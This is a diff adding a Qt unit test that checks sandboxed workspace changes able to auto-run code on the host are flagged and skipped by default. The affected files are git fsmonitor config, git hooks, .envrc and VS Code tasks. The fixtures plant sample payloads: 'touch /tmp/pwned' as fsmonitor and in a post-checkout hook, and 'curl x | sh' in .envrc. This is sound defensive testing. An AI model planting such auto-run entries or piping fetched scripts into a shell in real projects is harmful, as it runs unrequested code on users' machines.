@@ -157,6 +157,7 @@ private Q_SLOTS:
     void folderBecomesFileAndBack();
     void readOnlyFolderIsFilledFirst();
     void describeFillsDiffs();
+    void autorunChangesNeedTheirOwnYes();
 };
 
 void tst_WorkspaceChangeSet::classification_data()
@@ -744,6 +745,92 @@ void tst_WorkspaceChangeSet::describeFillsDiffs()
     QCOMPARE(set->find(u"blob.bin"_s)->diff.kind(), WorkspaceDiff::Kind::Binary);
     QCOMPARE(set->find(u"big.txt"_s)->diff.kind(), WorkspaceDiff::Kind::TooLarge);
     QCOMPARE(set->find(u"big.txt"_s)->diff.newSize(), qint64(2 << 20));
+}
+
+void tst_WorkspaceChangeSet::autorunChangesNeedTheirOwnYes()
+{
+    // The attack: the sandbox makes git run its code at the user's next `git status` (a
+    // fsmonitor in the config) or checkout (a hook). Whatever the sandbox says, the host sees
+    // these paths for what they are, and "everything" does not take them.
+    Fixture f;
+    QVERIFY(f.host.file(u".git/config"_s, "[core]\n\tbare = false\n"));
+    QVERIFY(f.host.file(u".git/HEAD"_s, "ref: refs/heads/main\n"));
+    QVERIFY(f.host.file(u"src/app.c"_s, "int x;\n"));
+    QVERIFY(f.host.file(u".git/hooks/pre-commit"_s, "#!/bin/sh\n", 0644));
+    QVERIFY(f.copy());
+
+    QVERIFY(f.sandbox.file(u".git/config"_s,
+                           "[core]\n\tbare = false\n\tfsmonitor = \"touch /tmp/pwned\"\n"));
+    QVERIFY(f.sandbox.file(u".git/hooks/post-checkout"_s, "#!/bin/sh\ntouch /tmp/pwned\n", 0755));
+    QVERIFY(f.sandbox.file(u".git/hooks/pre-commit"_s, "#!/bin/sh\n", 0755)); // made executable
+    QVERIFY(f.sandbox.file(u".git/hooks/post-merge.sample"_s, "sample\n"));
+    QVERIFY(f.sandbox.file(u".git/objects/ab/cdef"_s, "blob"));
+    QVERIFY(f.sandbox.file(u".git/HEAD"_s, "ref: refs/heads/fix\n"));
+    QVERIFY(f.sandbox.file(u".vscode/tasks.json"_s, "{}\n"));
+    QVERIFY(f.sandbox.file(u".envrc"_s, "curl x | sh\n"));
+    QVERIFY(f.sandbox.file(u"src/app.c"_s, "int y;\n"));
+
+    const Result<WorkspaceChangeSet> set = f.changes();
+    QVERIFY2(set, why(set));
+    QStringList autorun;
+    for (const WorkspaceChange &change : set->changes()) {
+        if (change.isAutorun())
+            autorun.append(change.path);
+    }
+    QCOMPARE(autorun,
+             (QStringList{u".envrc"_s, u".git/config"_s, u".git/hooks/post-checkout"_s,
+                          u".git/hooks/pre-commit"_s, u".vscode/tasks.json"_s}));
+    QCOMPARE(set->autorunCount(), 5);
+    QVERIFY(set->find(u".git/config"_s)->autorunReason.contains(u"core.fsmonitor"_s));
+    QVERIFY(set->find(u".git/hooks/post-checkout"_s)->autorunReason.contains(u"hook"_s));
+    // Folders are not flagged, only what they hold.
+    QVERIFY(set->find(u".vscode"_s) && !set->find(u".vscode"_s)->isAutorun());
+
+    // Everything: the ordinary changes, not the auto-run ones, which are listed as skipped.
+    Fixture g;
+    QVERIFY(copyTree(f.hostDir.path(), g.hostDir.path()));
+    const Result<WorkspaceApplyReport> report =
+        set->apply(g.hostDir.path(), WorkspaceSelection::everything(), f.provider());
+    QVERIFY(report);
+    QVERIFY(report->applied.contains(u"src/app.c"_s));
+    QVERIFY(report->applied.contains(u".git/HEAD"_s));
+    QVERIFY(report->applied.contains(u".git/objects/ab/cdef"_s));
+    QVERIFY(report->applied.contains(u".git/hooks/post-merge.sample"_s));
+    QStringList skipped;
+    for (const WorkspaceApplyReport::Skipped &item : report->skipped) {
+        skipped.append(item.path);
+        QVERIFY2(item.reason.contains(u"--apply-autorun"_s), qPrintable(item.reason));
+    }
+    QCOMPARE(skipped, autorun);
+    QFile config(g.host.path(u".git/config"_s));
+    QVERIFY(config.open(QIODevice::ReadOnly));
+    QVERIFY(!config.readAll().contains("fsmonitor"));
+    QVERIFY(!QFile::exists(g.host.path(u".git/hooks/post-checkout"_s)));
+    QVERIFY(!QFile::exists(g.host.path(u".envrc"_s)));
+    QCOMPARE(QFileInfo(g.host.path(u".git/hooks/pre-commit"_s)).permissions()
+                 & QFileDevice::ExeOwner,
+             QFileDevice::Permissions());
+
+    // By name: that one only.
+    Fixture h;
+    QVERIFY(copyTree(f.hostDir.path(), h.hostDir.path()));
+    WorkspaceSelection named = WorkspaceSelection::everything();
+    named.paths.insert(u".git/config"_s);
+    const Result<WorkspaceApplyReport> one = set->apply(h.hostDir.path(), named, f.provider());
+    QVERIFY(one);
+    QVERIFY(one->applied.contains(u".git/config"_s));
+    QVERIFY(!one->applied.contains(u".git/hooks/post-checkout"_s));
+    QCOMPARE(one->skipped.size(), 4);
+
+    // --apply-autorun: all of them.
+    Fixture k;
+    QVERIFY(copyTree(f.hostDir.path(), k.hostDir.path()));
+    WorkspaceSelection all = WorkspaceSelection::everything();
+    all.autorunAll = true;
+    const Result<WorkspaceApplyReport> every = set->apply(k.hostDir.path(), all, f.provider());
+    QVERIFY(every);
+    QVERIFY(every->skipped.isEmpty());
+    QVERIFY(QFile::exists(k.host.path(u".git/hooks/post-checkout"_s)));
 }
 
 QTEST_GUILESS_MAIN(tst_WorkspaceChangeSet)
